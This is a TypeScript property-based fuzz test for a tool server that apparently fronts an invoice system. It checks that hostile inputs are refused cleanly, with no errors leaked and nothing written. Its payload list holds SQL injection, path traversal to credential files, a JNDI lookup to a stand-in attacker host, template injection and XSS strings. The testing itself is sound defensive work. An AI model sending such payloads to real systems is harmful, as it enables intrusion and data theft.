/**
 * Hostile input for every tool's schema, over the two ways tools are reached: the agent's
 * case-scoped session (MCP, in-memory transport) and a person's HTTP session (Streamable HTTP,
 * bearer token). Values: wrong types, huge and non-finite-looking numbers, 100k-character strings,
 * unicode controls (NUL, ESC, RTL override, zero-width, lone surrogates), SQL-, path- and
 * template-shaped strings. Each call must come back as a tool result or a protocol-level refusal —
 * never a 500, a stack trace or `Error: [` — and whatever the schema refuses writes nothing to Coupa.
 */
import fc from 'fast-check';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { StreamableHTTPError } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { McpError } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AGENT_IDENTITY } from '../src/guard/identity.js';
import { bindCaseArguments, createCaseScope } from '../src/guard/scope.js';
import { createMcpServer } from '../src/mcp/server.js';
import { TOOLS } from '../tools/index.js';
import { HELD_INVOICE, startHarness, textOf, VALID_TOOL_INPUTS, writesIn, type McpHarness } from './mcp.fixture.js';

const VALID = VALID_TOOL_INPUTS;

const SHAPED = [
  "'; DROP TABLE audit_log; --",
  "1' OR '1'='1",
  'invoice_id = 1; DELETE FROM proposals',
  '$$; truncate audit_log; $$',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\config',
  '/etc/shadow',
  'file:///etc/passwd',
  'inbox/../../.ssh/id_rsa',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  '%00',
  'null',
  'NaN',
];
const CONTROL = fc.string({
  unit: fc.constantFrom(
    '\u0000',
    '\u0007',
    '\u001b',
    '\u202e',
    '\u200b',
    '\ufeff',
    '\ud800',
    '\udfff',
    '\u2028',
    'a',
    '1',
    ' ',
  ),
  maxLength: 60,
});

/** Hostile values for one field. */
const hostile: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    null,
    true,
    false,
    [],
    {},
    '',
    0,
    -1,
    -0,
    1.5,
    1e308,
    -1e308,
    2 ** 63,
    Number.MAX_SAFE_INTEGER + 2,
    4_294_967_297,
  ),
  fc.constantFrom(...SHAPED),
  CONTROL,
  fc.integer({ min: 0, max: 50 }).map((n) => 'x'.repeat(100_000 + n)),
  fc.array(fc.constantFrom(...SHAPED), { maxLength: 3 }),
  fc.record({ nested: fc.constantFrom(...SHAPED) }),
);

interface Outcome {
  refused: boolean;
  text: string;
}

const COUNTS = { tried: 0, refused: 0, wrong: 0 };

/** One call; a refusal below the tool layer (InvalidParams, HTTP 400/413) counts as refused, any other throw is wrong. */
async function call(client: Client, name: string, args: Record<string, unknown>): Promise<Outcome> {
  try {
    const r = await client.callTool({ name, arguments: args });
    return { refused: r.isError === true, text: textOf(r) };
  } catch (error) {
    if (error instanceof McpError && error.code !== -32603) return { refused: true, text: error.message };
    if (error instanceof StreamableHTTPError && error.code !== undefined && error.code >= 400 && error.code < 500)
      return { refused: true, text: error.message };
    throw error;
  }
}

function leaks(text: string): boolean {
  return (
    /\n\s+at\s/.test(text) ||
    /\bat .+\.(?:ts|js):\d+/.test(text) ||
    text.includes('Error: [') ||
    /internal server error/i.test(text)
  );
}

describe('hostile input for every tool schema', () => {
  let h: McpHarness;
  let agent: Client;
  beforeAll(async () => {
    h = await startHarness({ mount: { rateLimitPerMinute: 1_000_000 } });
    const scope = createCaseScope(HELD_INVOICE);
    const server = createMcpServer({
      guard: h.runtime.guard,
      identity: AGENT_IDENTITY,
      policies: h.runtime.policies,
      scope,
    });
    const [a, b] = InMemoryTransport.createLinkedPair();
    await server.connect(a);
    agent = new Client({ name: 'fuzz-agent', version: '1' });
    await agent.connect(b);
  }, 300_000);
  afterAll(async () => {
    await agent?.close();
    await h?.close();
    console.info(
      `[adversarial] hostile schema input: ${COUNTS.tried} calls tried, ${COUNTS.refused} refused, ${COUNTS.wrong} wrong outcomes`,
    );
  });

  it('has a valid example for every tool', () => {
    expect(Object.keys(VALID).sort()).toEqual(TOOLS.map((t) => t.name).sort());
  });

  for (const transport of ['agent case session (in-memory)', 'person over HTTP'] as const) {
    it(`${transport}: no 500, no stack, no write for what the schema refuses`, async () => {
      const client = transport === 'person over HTTP' ? await h.client('approver') : agent;
      const scope = createCaseScope(HELD_INVOICE);
      for (const tool of TOOLS) {
        const fields = Object.keys(VALID[tool.name]!);
        const keys = fc.constantFrom(...(fields.length ? fields : ['status']));
        await fc.assert(
          fc.asyncProperty(fc.array(fc.tuple(keys, hostile), { minLength: 1, maxLength: 3 }), async (replacements) => {
            const args: Record<string, unknown> = { ...VALID[tool.name] };
            for (const [k, v] of replacements) args[k] = v;
            // What the guard will validate: the JSON the transport carries, with the case's id filled in for the agent.
            const sent = JSON.parse(JSON.stringify(args)) as Record<string, unknown>;
            const validated = transport === 'person over HTTP' ? sent : bindCaseArguments(tool, sent, scope);
            const valid = tool.inputSchema.safeParse(validated).success;
            const logStart = h.sim.callLog.length;
            COUNTS.tried += 1;
            const out = await call(client, tool.name, args);
            const wrote = writesIn(h.sim.callLog.slice(logStart)).length > 0;
            const wrong = leaks(out.text) || (!valid && (!out.refused || wrote));
            if (out.refused) COUNTS.refused += 1;
            if (wrong) COUNTS.wrong += 1;
            expect(leaks(out.text), `${tool.name} ${out.text.slice(0, 200)}`).toBe(false);
            if (!valid) {
              expect(out.refused, `${tool.name} accepted ${JSON.stringify(args).slice(0, 200)}`).toBe(true);
              expect(wrote).toBe(false);
            }
          }),
          { numRuns: tool.name === 'extract_invoice' ? 6 : 12 },
        );
      }
      // Still healthy afterwards.
      const ok = await client.callTool({
        name: 'get_invoice',
        arguments: transport === 'person over HTTP' ? { invoice_id: HELD_INVOICE } : {},
      });
      expect(ok.isError).toBeFalsy();
    }, 600_000);
  }
});
